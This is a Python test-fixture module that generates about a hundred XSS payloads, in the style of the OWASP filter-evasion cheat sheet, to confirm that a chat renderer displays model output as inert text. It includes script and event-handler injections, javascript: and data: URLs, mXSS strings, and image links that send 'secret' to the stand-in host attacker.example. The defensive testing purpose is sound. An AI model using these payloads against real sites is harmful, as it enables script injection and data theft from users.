"""XSS payloads for the browser tests, in the style of the OWASP XSS filter-evasion cheat sheet.

Every payload is model output (untrusted text streamed by the simulator). If any part of it ever executed or
loaded, it would leave a trace the test can see: `top.__xss_<n> = 1`, an `alert(<n>)` dialog, or a request to
the test's probe server (`http://127.0.0.1:<port>/hit?<n>` or `/probe?<n>`). External hosts are under the
reserved `.example` TLD (and the test browser resolves no host but 127.0.0.1), so an attempt is recorded but
nothing leaves the machine.

`readable` are fragments that must still be visible in the rendered answer (whitespace collapsed): the
renderer shows the payload as text instead of dropping it.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

__all__ = ["EXTERNAL_HOST", "Vector", "vectors"]

#: Never resolves (RFC 2606); any request to it is an exfiltration attempt.
EXTERNAL_HOST = "attacker.example"


@dataclass(frozen=True)
class Vector:
    n: int
    name: str
    payload: str
    readable: tuple[str, ...]


def vectors(probe: str) -> list[Vector]:
    """The corpus, with `probe` (``"127.0.0.1:PORT"``) as the address of the hit logger."""
    out: list[Vector] = []
    ext = EXTERNAL_HOST

    def fill(text: str) -> str:
        return text.replace("{N}", str(len(out) + 1)).replace("{P}", probe)

    def b64(text: str) -> str:
        """Base64 of `text` for the vector about to be added (placeholders filled first)."""
        return base64.b64encode(fill(text).encode()).decode()

    def add(name: str, payload: str, *readable: str) -> None:
        out.append(Vector(len(out) + 1, name, fill(payload), tuple(fill(r) for r in readable)))

    # `top.` so that a payload running inside an iframe of the page still marks the page.
    flag = "top.__xss_{N}=1"
    fetch = "fetch('http://{P}/hit?{N}',{mode:'no-cors'})"

    # --- event handlers -----------------------------------------------------------------------------------
    add("img onerror", f"<img src=x onerror={flag}>", "<img src=x onerror=")
    add("img remote src", "<img src=http://{P}/hit?{N}>", "<img src=http://{P}/hit?{N}>")
    add("svg onload", f"<svg onload={flag}>", "<svg onload=")
    add("body onload", f"<body onload={flag}>", "<body onload=")
    add("details ontoggle", f"<details open ontoggle={flag}><summary>s</summary></details>", "<details open ontoggle=")
    add("video source onerror", f"<video><source onerror={flag}></video>", "<video><source onerror=")
    add("audio onerror", f"<audio src=x onerror={flag}>", "<audio src=x onerror=")
    add("input autofocus onfocus", f"<input autofocus onfocus={flag}>", "<input autofocus onfocus=")
    add("iframe onload", f"<iframe onload={flag}></iframe>", "<iframe onload=")
    add("style onload", f"<style onload={flag}></style>", "<style onload=")
    add("svg animate onbegin", f"<svg><animate onbegin={flag} attributeName=x dur=1s>", "onbegin=")
    add("marquee onstart", f"<marquee onstart={flag}>m</marquee>", "<marquee onstart=")
    add("alert dialog", "<img src=x onerror=alert({N})>", "onerror=alert({N})")
    add("fetch probe", f"<img src=x onerror=\"{fetch}\">", "onerror=\"fetch(")
    add("mixed case", "<IMG SRC=x OnErRoR=top.__xss_{N}=1>", "<IMG SRC=x OnErRoR=")
    add("slash separators", "<img/src=\"x\"/onerror=top.__xss_{N}=1>", "<img/src=\"x\"/onerror=")
    add("double brackets", f"<<img src=x onerror={flag}>>", "<<img src=x onerror=")
    add("entity-encoded handler", "<img src=x onerror=\"&#x74;op.__xss_{N}=1\">", "<img src=x onerror=")
    add("base64 eval", "<img src=x onerror=eval(atob('" + b64(flag) + "'))>", "eval(atob(")
    add("malformed quotes", f"<img \"\"\"><img src=x onerror={flag}>\">", "<img \"\"\">")
    add("unclosed tag", f"<img src=x onerror={flag} ", "<img src=x onerror=")
    add("nested script", f"<scr<script>ipt>{flag}</scr</script>ipt>", "<scr<script>ipt>")
    add("bare script", f"<script>{flag}</script>", "<script>top.")
    add("svg script", f"<svg><script>{flag}</script></svg>", "<svg><script>")

    # --- frames, objects, resources ------------------------------------------------------------------------
    add("iframe javascript:", f"<iframe src=\"javascript:{flag}\"></iframe>", "<iframe src=\"javascript:")
    add("iframe srcdoc", f"<iframe srcdoc=\"<img src=x onerror={flag}>\"></iframe>", "<iframe srcdoc=")
    add("iframe srcdoc entities", f"<iframe srcdoc=\"&lt;script&gt;{flag}&lt;/script&gt;\"></iframe>", "srcdoc=")
    add("iframe data:", f"<iframe src=\"data:text/html,<script>{fetch}</script>\"></iframe>", "src=\"data:text/html")
    add("iframe remote", "<iframe src=http://{P}/hit?{N}></iframe>", "<iframe src=http://{P}/hit?{N}>")
    add("object data:", f"<object data=\"data:text/html;base64,{b64(f'<script>{fetch}</script>')}\"></object>",
        "<object data=")
    add("object javascript:", f"<object data=\"javascript:{flag}\"></object>", "<object data=\"javascript:")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{fetch}\"/>"
    add("embed svg data:", f"<embed src=\"data:image/svg+xml;base64,{b64(svg)}\">", "<embed src=")
    add("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://{P}/hit?{N}\">", "http-equiv=")
    add("link import", "<link rel=import href=http://{P}/hit?{N}>", "<link rel=import")
    add("link stylesheet", "<link rel=stylesheet href=http://{P}/hit?{N}>", "<link rel=stylesheet")
    add("base href", "<base href=\"http://{P}/\"><img src=\"hit?{N}\">", "<base href=")
    add("form action", f"<form action=\"javascript:{flag}\"><button>go</button></form>", "<form action=")
    add("button formaction", f"<button formaction=javascript:{flag}>x</button>", "formaction=")
    add("table background", "<table background=http://{P}/hit?{N}><tr><td>t</td></tr></table>", "background=")
    add("input image", "<input type=image src=http://{P}/hit?{N}>", "<input type=image")
    add("video poster", "<video poster=http://{P}/hit?{N}></video>", "<video poster=")
    add("img srcset", "<img srcset=\"http://{P}/hit?{N} 1x\">", "<img srcset=")
    add("svg image", "<svg><image href=\"http://{P}/hit?{N}\"/></svg>", "<svg><image href=")
    add("svg foreignObject", f"<svg><foreignObject><img src=x onerror={flag}></foreignObject></svg>", "foreignObject")
    add("svg a xlink javascript:", f"<svg><a xlink:href=\"javascript:{flag}\"><text y=9>x</text></a></svg>",
        "xlink:href=")
    add("remote image external", f"<img src=https://{ext}/x.png?q=secret>", f"<img src=https://{ext}/x.png")

    # --- CSS -----------------------------------------------------------------------------------------------
    add("style attr url()", "<div style=\"background-image:url(http://{P}/hit?{N})\">css</div>", "background-image:url(")
    add("style expression()", f"<div style=\"width:expression({flag})\">e</div>", "expression(")
    add("style @import", "<style>@import url(http://{P}/hit?{N});</style>", "@import url(")
    add("style url() rule", "<style>body{background:url(\"http://{P}/hit?{N}\")}</style>", "body{background:url(")
    add("style external url()", f"<div style=\"background:url(https://{ext}/c.png)\">c</div>", ext)

    # --- parser confusion / mXSS ---------------------------------------------------------------------------
    add("math mglyph mXSS", f"<math><mtext><table><mglyph><style><img src=x onerror={flag}>", "<mglyph><style>")
    add("math comment mXSS",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={flag}&gt;\">",
        "<math><mtext><table>")
    add("noscript breakout", f"<noscript><p title=\"</noscript><img src=x onerror={flag}>\">", "<noscript>")
    add("comment breakout", f"<!--<img src=\"--><img src=x onerror={flag}//\">", "<!--<img src=")
    add("svg style breakout", f"<svg><style><img src=x onerror={flag}></style></svg>", "<svg><style>")
    add("template", f"<template><img src=x onerror={flag}></template>", "<template>")
    add("title RCDATA", f"</title><img src=x onerror={flag}>", "</title>")
    add("entities in text", f"&lt;img src=x onerror={flag}&gt;", "<img src=x onerror=top.")
    add("double-encoded", "&amp;lt;script&amp;gt;top.__xss_{N}=1&amp;lt;/script&amp;gt;", "&lt;script&gt;")

    # --- links: javascript:, data:, vbscript: --------------------------------------------------------------
    add("md link javascript:", f"[click]({_js(flag)})", "avascript:")
    add("md link mixed case", f"[click](JaVaScRiPt:{flag})", "aScRiPt:")
    add("md link decimal entity", f"[click](&#106;avascript:{flag})", "avascript:")
    add("md link hex entities", f"[click](&#x6A;avascript&#x3A;{flag})", "avascript")
    add("md link %-encoded", f"[click](java%0ascript:{flag})", "click")
    add("md link angle destination", f"[click](<javascript:{flag}>)", "avascript:")
    add("md link leading space", f"[click](  javascript:{flag} )", "avascript:")
    add("md link data:", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:text/html")
    add("md link vbscript:", "[click](vbscript:msgbox({N}))", "vbscript:")
    add("md link file:", "[passwd](file:///etc/passwd)", "file:///etc/passwd")
    add("autolink javascript:", f"<javascript:{flag}>", "avascript:")
    add("autolink mixed case", f"<JaVaScRiPt:{flag}>", "aScRiPt:")
    add("autolink tab in scheme", f"<java\tscript:{flag}>", "script:")
    add("autolink newline in scheme", f"<java\nscript:{flag}>", "script:")
    add("raw a javascript:", f"<a href=\"javascript:{flag}\">click</a>", "<a href=\"javascript:")
    add("raw a entity javascript:", f"<a href=\"&#106;avascript:{flag}\">click</a>", "<a href=")
    add("raw a tab javascript:", f"<a href=\"jav&#x09;ascript:{flag}\">click</a>", "<a href=")
    add("link title attribute break", f"[x](https://ok.example/ \"\\\" onmouseover={flag} x=\\\"\")", "x")
    add("link href attribute break", f"[x](https://ok.example/\"onmouseover=\"{flag})", "x")
    add("reference link javascript:", f"[x][r]\n\n[r]: javascript:{flag}", "[r]: ")
    add("reference image", "![x][img]\n\n[img]: http://{P}/probe?{N}", "[img]: ")
    add("link then raw html", f"[ok](https://ok.example/)<img src=x onerror={flag}>", "<img src=x onerror=")
    add("emphasis around html", f"**<img src=x onerror={flag}>**", "<img src=x onerror=")
    add("table cell payloads", f"| <img src=x onerror={flag}> | [x](javascript:{flag}) |\n|---|---|\n| a | b |",
        "<img src=x onerror=")

    # --- images: never loaded without a click --------------------------------------------------------------
    add("md image local probe", "![probe](http://{P}/probe?{N})", "probe")
    add("md image external", f"![exfil](https://{ext}/p.png?q=secret)", "exfil")
    add("md image protocol-relative", f"![rel](//{ext}/p.png)", "rel")
    add("md image javascript:", f"![js]({_js(flag)})", "js")
    add("md image data: svg", f"![svg](data:image/svg+xml;base64,{b64(svg)})", "svg")
    add("md image inside link", "[![inner](http://{P}/probe?{N})](https://ok.example/)", "inner")
    add("autolink local http", "<http://{P}/hit?{N}>", "http://{P}/hit?{N}")

    # --- code must stay text -------------------------------------------------------------------------------
    add("script in code fence", f"```html\n<script>{flag}</script>\n<img src=x onerror={flag}>\n```",
        "<script>top.")
    add("script in inline code", f"`<script>{flag}</script>`", "<script>top.")
    add("unclosed fence", f"```\n<img src=x onerror={flag}>", "<img src=x onerror=")

    # --- math (KaTeX in the widget, MathJax in JupyterLab for %%ernie) -------------------------------------
    add("math \\href", f"mathhref $\\href{{javascript:{flag}}}{{x}}$", "mathhref")
    # alert(n), not the flag, where TeX would read `_` as a subscript and fail before the payload matters
    add("math \\url", "mathurl $\\url{javascript:alert({N})}$", "mathurl")
    add("math \\includegraphics", "mathimg $\\includegraphics{http://{P}/hit?{N}}$", "mathimg")
    add("math \\style url()", "mathstyle $\\style{background-image:url(http://{P}/hit?{N})}{x}$", "mathstyle")
    add("math html in TeX", "mathhtml $$\\text{<img src=x onerror=alert({N})>}$$", "mathhtml")

    # --- renderer integrity (issue 19): nothing is hidden, reversed or dropped, nothing breaks the chat -------
    add("math rule over the next words", "ruled $\\rlap{\\rule{40em}{1.6em}}$ after-rule-{N}", "after-rule-{N}")
    add("math raised white rule", "raised $\\raisebox{3em}{\\color{white}\\rlap{\\rule{30em}{3em}}}$ after-raise-{N}",
        "after-raise-{N}")
    add("bidi override in link text", "[\u202egpj.exe](https://ok.example/) after-bidi-{N} word", "after-bidi-{N} word")
    add("bidi override in code and math", "`\u202edcba` and $\\text{\u202eabc}$ after-rlo-{N}", "after-rlo-{N}")
    add("nesting bomb", "- " * 60 + "deep\nafter-bomb-{N}", "after-bomb-{N}")
    add("deep TeX braces", "$" + "{" * 2400 + "x" + "}" * 2400 + "$ after-braces-{N}", "after-braces-{N}")
    add("many brackets", "![[" * 2000 + " after-brackets-{N}", "after-brackets-{N}")
    return out


def _js(code: str) -> str:
    """A `javascript:` URL for a markdown link destination (no spaces or parentheses to break the syntax)."""
    return "javascript:" + code
